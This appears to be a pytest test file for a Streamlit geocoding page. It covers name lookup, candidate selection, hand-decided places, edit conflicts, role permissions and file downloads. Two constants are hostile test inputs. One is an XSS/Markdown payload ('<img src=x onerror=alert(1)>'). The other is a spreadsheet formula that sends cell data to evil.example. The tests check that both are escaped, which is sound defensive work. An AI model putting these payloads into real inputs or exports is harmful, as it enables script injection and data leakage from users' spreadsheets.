"""The Geocoding page: names in, decisions with their candidates out, a person's own one saved and undone."""

import csv
import io
import json
import re
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from dashboard.domain.access import LOCAL, Mode, Role
from dashboard.domain.records import Place
from dashboard.errors import PermissionDeniedError
from dashboard.exports.package import write_package
from dashboard.importers.package import DataPackage
from dashboard.runtime import runtime
from dashboard.store.store import open_store
from dashboard.ui.geocoding import decisions
from dashboard.ui.geocoding.job import Job
from dashboard.workflows.access.audience import EXACT
from dashboard.workflows.geocoding.decide_places import HandDecision, save_by_hand
from dashboard.workflows.geocoding.name_lists import names_of_column, names_of_text, read_name_file

ROOT = Path(__file__).parents[2] / "dashboard"
HOSTILE = "<img src=x onerror=alert(1)> **b** ![x](http://canary.invalid/x.png) $x$ :red[r]"
NAMES = "Tel Aviv\nSpringfield\nZzyzzx Nowhere"


class Opened:
    """The page as a reader sees it."""

    def __init__(self, at: AppTest) -> None:
        self.at = at

    def texts(self, *kinds: str) -> str:
        return "\n".join(str(e.value) for kind in kinds for e in self.at.get(kind))

    @property
    def words(self) -> str:
        return self.texts("markdown", "caption", "info", "warning", "error", "success").replace("\\", "")

    @property
    def job(self) -> Job:
        job = self.at.session_state["geo_job"]
        assert isinstance(job, Job)
        return job

    @property
    def table(self):
        return self.frame("geo_table_")

    @property
    def candidates(self):
        return self.frame("geo_candidates_")

    def frame(self, prefix: str):
        return next(d for d in self.at.dataframe if (d.key or "").startswith(prefix)).value

    def field(self, kind: str, prefix: str):
        return next(e for e in self.at.get(kind) if (e.key or "").startswith(prefix))

    def press(self, label: str) -> None:
        next(b for b in self.at.button if b.label == label).click().run()
        assert not self.at.exception, self.at.exception

    def select(self, prefix: str, row: int) -> None:
        key = next(d.key for d in self.at.dataframe if (d.key or "").startswith(prefix))
        self.at.session_state[key] = {"selection": {"rows": [row], "columns": [], "cells": []}}
        self.at.run()
        assert not self.at.exception, self.at.exception

    @property
    def map(self):
        (component,) = (e for e in self.at.main if getattr(e, "key", "") == "geo_map")
        return json.loads(component.proto.json)


@pytest.fixture
def gazetteer(gazetteer_file, monkeypatch):
    monkeypatch.setenv("ARSENAL_ATLAS_GAZETTEER", str(gazetteer_file))


def open_page(names: str = "", page: str = "geocoding", **query: str) -> Opened:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page(f"app_pages/{page}.py")
    for name, value in ({"names": names} if names else {} | query).items():
        at.query_params[name] = value
    at.run()
    assert not at.exception, at.exception
    return Opened(at)


@pytest.fixture
def opened(own_store, gazetteer):
    return open_page(NAMES)


def decide(opened, name="A. Tester", reason="The permit names the plot", point="33.6012, -7.1345"):
    opened.field("text_input", "geo_point_").set_value(point)
    opened.field("text_input", "geo_reason_").set_value(reason)
    opened.field("text_input", "geo_who_").set_value(name)
    opened.press("Save as hand-decided place")


def places(url):
    store = open_store(url)
    found = {place.name: place for place in store.repository.read_table(Place)}
    store.close()
    return found


def test_without_names_it_says_what_to_do(own_store, gazetteer):
    opened = open_page()
    assert "Paste names" in opened.words
    assert not opened.at.error
    opened.press("Geocode")
    assert "no name yet" in opened.words


def test_a_page_of_an_empty_atlas_geocodes_all_the_same(gazetteer, tmp_path, monkeypatch):
    write_package(DataPackage.of({}), tmp_path / "empty")
    monkeypatch.setenv("ARSENAL_ATLAS_DB", f"sqlite:///{tmp_path / 'atlas.sqlite'}")
    monkeypatch.setenv("ARSENAL_ATLAS_PACKAGE", str(tmp_path / "empty"))
    opened = open_page("Tel Aviv")
    assert list(opened.table["Status"]) == ["resolved"]
    opened.at.session_state["geo_places_open"] = True
    opened.at.run()
    assert "Nobody has decided a place" in opened.words


@pytest.mark.parametrize("content", [None, b"this is no gazetteer", b"SQLite format 3\0" + bytes(5000)])
def test_a_missing_or_damaged_gazetteer_says_what_to_run(own_store, tmp_path, monkeypatch, content):
    path = tmp_path / "gazetteer.sqlite"
    if content is not None:
        path.write_bytes(content)
    monkeypatch.setenv("ARSENAL_ATLAS_GAZETTEER", str(path))
    opened = open_page(NAMES)
    assert "arsenal-atlas db gazetteer" in opened.texts("error").replace("\\", "")
    assert any("Build it now" in button.label for button in opened.at.button)
    assert any("Hand-decided places" in e.label for e in opened.at.expander)


def test_a_reader_is_not_told_where_the_hosts_files_lie(visitors, tmp_path, monkeypatch):
    monkeypatch.setenv("ARSENAL_ATLAS_GAZETTEER", str(tmp_path / "gazetteer.sqlite"))
    visitors.enter("Rea", Role.READER)
    opened = open_page(NAMES)
    assert "Ask whoever runs this atlas" in opened.texts("error")
    assert str(tmp_path) not in opened.words.replace("\\", "")
    assert not any("Build it now" in button.label for button in opened.at.button)


def test_the_page_builds_what_is_missing(own_store, gazetteer_file, tmp_path, monkeypatch):
    path = tmp_path / "gazetteer.sqlite"
    monkeypatch.setenv("ARSENAL_ATLAS_GAZETTEER", str(path))
    opened = open_page("Tel Aviv")

    def build(progress):
        progress(1, 2)
        shutil.copy(gazetteer_file, path)

    monkeypatch.setattr(runtime().gazetteers, "build", build, raising=True)
    opened.press("Build it now (about half a minute)")
    assert list(opened.table["Status"]) == ["resolved"]


def test_a_link_brings_names_and_their_decisions(opened):
    assert list(opened.table["Status"]) == ["resolved", "ambiguous", "unknown"]
    assert opened.at.text_area[0].value == NAMES
    assert opened.at.query_params["names"] == NAMES
    assert "Tel Aviv" in opened.words
    assert list(opened.candidates["Score"]) == sorted(opened.candidates["Score"], reverse=True)


def test_an_address_of_any_length_is_bounded(own_store, gazetteer):
    opened = open_page("x\n" * 5000)
    assert 0 < len(opened.job.names) <= 1000


def test_pasted_names_are_decided_and_kept_in_the_address(own_store, gazetteer):
    opened = open_page()
    opened.at.text_area[0].set_value("Rabat; MA\n; MA")
    opened.press("Geocode")
    assert list(opened.table["Country"]) == ["Morocco"]
    assert "your list, row 2" in opened.words
    assert opened.at.query_params["names"] == "Rabat; MA\n; MA"


@pytest.fixture
def files(monkeypatch):
    """What the page offers to download, as functions that make it."""
    made = {}
    monkeypatch.setattr("streamlit.download_button", lambda title, data, **_: made.update({title: data}))
    return made


FORMULAS = ['=HYPERLINK("https://evil.example/"&A1)', "\uff1d1+1", "@SUM(1)", "-7", "Rabat"]


def test_no_name_is_a_formula_in_the_file_and_all_of_them_come_back(own_store, gazetteer, files):
    opened = open_page("\n".join(FORMULAS))
    written = files["CSV"]()
    rows = list(csv.DictReader(io.StringIO(written.decode(), newline="")))
    assert [row["name"] for row in rows] == [f"'{FORMULAS[0]}", "'\uff1d1+1", "'@SUM(1)", "-7", "Rabat"]
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "@", "+"))]
    table = read_name_file(written, "places.csv")
    again = names_of_column(table, table.columns.index("name"))
    assert [one.name for one in again.names] == [one.name for one in opened.job.names] == FORMULAS


def test_files_leave_only_for_those_who_may_take_them(visitors, gazetteer, files, monkeypatch):
    visitors.enter("Ann", Role.READER)
    open_page(NAMES)
    assert set(files) == {"CSV", "GeoJSON"}
    monkeypatch.setattr(type(runtime()), "mode", Mode.MAINTENANCE)
    for make in files.values():
        with pytest.raises(PermissionDeniedError, match="maintenance"):
            make()


def test_files_are_not_offered_to_those_who_may_not_take_them(visitors, gazetteer, files, monkeypatch):
    visitors.enter("Ann", Role.READER)
    open_page(NAMES)
    files.clear()
    # Who is only remembered while the store is silent may read and nothing else.
    monkeypatch.setattr(runtime().people, "_away", lambda: True)
    assert list(open_page(NAMES).table["Status"]) == ["resolved", "ambiguous", "unknown"]
    assert files == {}


@pytest.mark.parametrize("status", ["resolved", "ambiguous", "unknown"])
def test_the_list_narrows_to_one_outcome(opened, status):
    opened.field("segmented_control", "geo_status_").set_value(status).run()
    assert list(opened.table["Status"]) == [status]


def test_an_outcome_that_no_name_has_says_so(own_store, gazetteer):
    opened = open_page("Tel Aviv")
    opened.field("segmented_control", "geo_status_").set_value("unknown").run()
    assert "No name has this outcome" in opened.words


def test_a_row_shows_its_candidates_on_table_and_map(opened):
    opened.select("geo_table_", 1)
    ids = list(opened.candidates["Id"])
    assert len(ids) > 3
    state = opened.map["state"]
    assert state["selected"] == ids[0]
    version = opened.map["payload"].split("/")[-2]
    assert ids[1].encode() in runtime().view(EXACT).payload(version)
    assert "clock=off" in opened.map["document"]
    opened.select("geo_candidates_", 2)
    assert opened.map["state"]["selected"] == ids[2]
    assert opened.field("text_input", "geo_point_").value.startswith(f"{opened.candidates['Lat'][2]:.2f}")


def test_names_of_one_text_are_decided_together(opened):
    opened.at.toggle(key="geo_together").set_value(True).run()
    assert not opened.at.exception
    assert opened.job.together
    assert opened.job.is_done
    assert [one.name for one in opened.job.decisions] == NAMES.split("\n")


def test_a_long_list_is_worked_off_in_pieces(own_store, gazetteer, monkeypatch):
    monkeypatch.setattr(decisions, "_CHUNK", 2)
    opened = open_page("Tel Aviv\nRabat\nHaifa\nKyiv\nParis")
    assert len(opened.table) == 5


def test_a_stopped_list_shows_what_is_done_and_goes_on(opened):
    opened.job.stop()
    del opened.job.decisions[1:]
    opened.at.run()
    assert "Stopped after 1 of 3" in opened.words
    assert len(opened.table) == 1
    opened.press("Go on")
    assert len(opened.table) == 3


def test_an_uploaded_table_lets_its_columns_be_chosen(own_store, gazetteer):
    opened = open_page()
    opened.at.segmented_control(key="geo_how").set_value("Upload").run()
    data = "id,town,land\n1,Rabat,MA\n2,Fort Worth, Texas,US\n3,Haifa,IL\n"
    opened.at.file_uploader[0].set_value(("my list.csv", data.encode(), "text/csv")).run()
    names, countries = opened.at.selectbox[0], opened.at.selectbox[1]
    assert (names.value, countries.value) == (1, None)
    countries.set_value(2).run()
    opened.press("Geocode")
    assert list(opened.table["Name"]) == ["Rabat; MA", "Haifa; IL"]
    assert list(opened.table["Row"]) == [2, 4]
    assert "my list.csv, row 3" in opened.words


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04" + bytes(300), b"place\n"])
def test_an_upload_that_is_no_list_says_so(own_store, gazetteer, data):
    opened = open_page()
    opened.at.segmented_control(key="geo_how").set_value("Upload").run()
    opened.at.file_uploader[0].set_value(("a.csv", data, "text/csv")).run()
    assert not opened.at.exception
    assert opened.at.warning
    assert not [b for b in opened.at.button if b.label == "Geocode" and not b.disabled]


def test_a_decision_is_saved_wins_and_is_taken_back(opened, own_store):
    opened.select("geo_table_", 2)
    assert "Nothing answers to this name" in opened.words
    decide(opened)
    saved = places(own_store)["Zzyzzx Nowhere"]
    assert (saved.lat, saved.lon, saved.reason) == (33.6012, -7.1345, "The permit names the plot")
    assert "Saved as pl-zzyzzx-nowhere" in opened.words
    assert list(opened.table["Status"]) == ["resolved", "ambiguous", "resolved"]
    opened.select("geo_table_", 2)
    assert "**Decided by hand** by A. Tester" in opened.words
    opened.field("text_input", "geo_chosen_pl-zzyzzx-nowhere_why").set_value("Another plot")
    assert opened.field("text_input", "geo_chosen_pl-zzyzzx-nowhere_who").value == "A. Tester"
    opened.press("Take it back")
    assert "Zzyzzx Nowhere" not in places(own_store)
    assert "Taken back" in opened.words
    assert list(opened.table["Status"]) == ["resolved", "ambiguous", "unknown"]


ELSEWHERE = HandDecision("Zzyzzx Nowhere", (10.5, 20.5), "near", 2_000, "Eve was there")


def eve_decides(decision=ELSEWHERE):
    """Somebody else decides, in another tab."""
    return save_by_hand(runtime().store, replace(LOCAL, name="Eve"), decision)


@pytest.fixture
def clashing(opened):
    opened.select("geo_table_", 2)
    theirs = eve_decides()
    decide(opened)
    return opened, theirs


def test_who_decides_what_another_decided_meanwhile_sees_both(clashing, own_store):
    opened, theirs = clashing
    assert "Eve decided about Zzyzzx Nowhere a moment ago" in opened.words
    for words in ("33.6012, -7.1345", "The permit names the plot", "10.5000, 20.5000", "Eve was there"):
        assert words in opened.words
    assert places(own_store)["Zzyzzx Nowhere"] == theirs
    opened.press("Save mine in its place")
    saved = places(own_store)["Zzyzzx Nowhere"]
    assert (saved.id, saved.lat, saved.reason) == (theirs.id, 33.6012, "The permit names the plot")
    assert "Saved as pl-zzyzzx-nowhere" in opened.words
    assert "Eve decided" not in opened.words


def test_who_sees_both_may_keep_what_is_there(clashing, own_store):
    opened, theirs = clashing
    opened.press("Keep what is there")
    assert "Eve decided" not in opened.words
    assert places(own_store)["Zzyzzx Nowhere"] == theirs


def test_a_decision_that_was_changed_meanwhile_is_not_taken_back_unseen(opened, own_store):
    opened.select("geo_table_", 2)
    decide(opened)
    opened.select("geo_table_", 2)
    theirs = eve_decides(replace(ELSEWHERE, reason="Eve went there again"))
    opened.field("text_input", "geo_chosen_pl-zzyzzx-nowhere_why").set_value("Another plot")
    opened.press("Take it back")
    assert "Eve changed the decision about Zzyzzx Nowhere meanwhile" in opened.texts("error")
    assert places(own_store)["Zzyzzx Nowhere"] == theirs


def test_choosing_a_candidate_fills_the_form_and_names_its_source(opened, own_store):
    opened.select("geo_table_", 1)
    opened.select("geo_candidates_", 2)
    chosen = opened.candidates.iloc[2]
    opened.field("text_input", "geo_reason_").set_value("The article speaks of the state capital")
    opened.field("text_input", "geo_who_").set_value("A. Tester")
    opened.press("Save as hand-decided place")
    saved = places(own_store)["Springfield"]
    assert (saved.lat, saved.lon) == pytest.approx((chosen["Lat"], chosen["Lon"]), abs=1e-4)
    assert chosen["Id"] in saved.reason
    assert saved.reason.startswith("The article speaks of the state capital")
    assert saved.precision_m == chosen["Radius, km"] * 1000
    assert opened.job.decisions[1].chosen.entry.place_id == saved.id


@pytest.mark.parametrize(
    ("wrong", "words"),
    [
        ({"point": "somewhere"}, "coordinates cannot be read"),
        ({"reason": ""}, "Say why"),
        ({"name": " "}, "Say who"),
    ],
)
def test_a_decision_that_does_not_hold_is_not_saved(opened, own_store, wrong, words):
    opened.select("geo_table_", 2)
    decide(opened, **wrong)
    assert words in opened.texts("error")
    assert "Zzyzzx Nowhere" not in places(own_store)


def test_a_stated_country_is_the_place_s_own_and_wins_for_it(own_store, gazetteer):
    opened = open_page("Zzyzzx Nowhere; Morocco")
    decide(opened)
    assert places(own_store)["Zzyzzx Nowhere"].country == "MA"
    assert list(opened.table["Status"]) == ["resolved"]


def test_who_is_signed_in_needs_no_name(visitors, own_store, gazetteer):
    reviewer = visitors.enter("Rev", Role.REVIEWER)
    opened = open_page(NAMES)
    opened.select("geo_table_", 2)
    assert opened.field("text_input", "geo_who_").disabled
    opened.field("text_input", "geo_point_").set_value("33.6012, -7.1345")
    opened.field("text_input", "geo_reason_").set_value("The permit names the plot")
    opened.press("Save as hand-decided place")
    (change,) = runtime().repository.changes("pl-zzyzzx-nowhere")
    assert change.who == reviewer.name


@pytest.mark.parametrize("role", [Role.READER, Role.CONTRIBUTOR])
def test_who_is_no_reviewer_looks_up_but_decides_nothing(visitors, gazetteer, role):
    visitors.enter("Ann", role)
    opened = open_page(NAMES)
    assert list(opened.table["Status"]) == ["resolved", "ambiguous", "unknown"]
    opened.select("geo_table_", 2)
    assert "Reviewers can decide" in opened.words
    assert not [b for b in opened.at.button if b.label == "Save as hand-decided place"]


def test_places_of_the_package_say_why_they_stay(opened):
    opened.at.session_state["geo_places_open"] = True
    opened.at.run()
    listed = opened.frame("geo_places_")
    used = int(listed["Records"].to_numpy().argmax())
    opened.select("geo_places_", used)
    assert "stand on it" in opened.words or "stands on it" in opened.words
    assert not [b for b in opened.at.button if b.label == "Take it back"]


def test_a_hostile_name_is_text_everywhere(own_store, gazetteer):
    opened = open_page(HOSTILE)
    decide(opened, name=HOSTILE[:90], reason=HOSTILE)
    assert HOSTILE in places(own_store)
    shown = opened.texts("markdown", "caption", "success", "info", "warning", "error")
    # Every sign that Markdown would read stands behind a backslash.
    for beacon in (r"(?<!\\)<img", r"(?<!\\)\*b", r"(?<!\\)\]\(", r"(?<!\\)\$x", r"(?<!\\):red"):
        assert not re.search(beacon, shown)
    assert "onerror" in shown
    opened.select("geo_table_", 0)
    assert "onerror" in opened.words


def card_of(record: str) -> Opened:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params["record"] = record
    at.run()
    assert not at.exception, at.exception
    return Opened(at)


def test_a_card_says_how_its_place_was_decided_when_asked(own_store, gazetteer):
    opened = card_of("st-bluebird-benslimane")
    assert "known to" in opened.words
    assert "Looked up again" not in opened.words
    opened.at.session_state["placed_st-bluebird-benslimane"] = True
    opened.at.run()
    assert not opened.at.exception
    assert "Looked up again" in opened.words
    assert "chosen by" in opened.words
    (again,) = (d.value for d in opened.at.dataframe if "Score" in d.value)
    assert len(again)
    assert any("Geocoding page" in link.label for link in opened.at.get("page_link"))


def test_a_card_without_a_gazetteer_says_what_to_run(own_store):
    opened = card_of("st-bluebird-benslimane")
    opened.at.session_state["placed_st-bluebird-benslimane"] = True
    opened.at.run()
    assert "arsenal-atlas db gazetteer" in opened.texts("warning").replace("\\", "")


def test_a_job_begins_anew_only_when_something_changed():
    job = Job(1, names_of_text(NAMES).names)
    job.begin("v1", together=False)
    job.decisions.extend([None, None])
    job.begin("v1", together=False)
    assert len(job.decisions) == 2
    job.begin("v2", together=False)
    assert not job.decisions
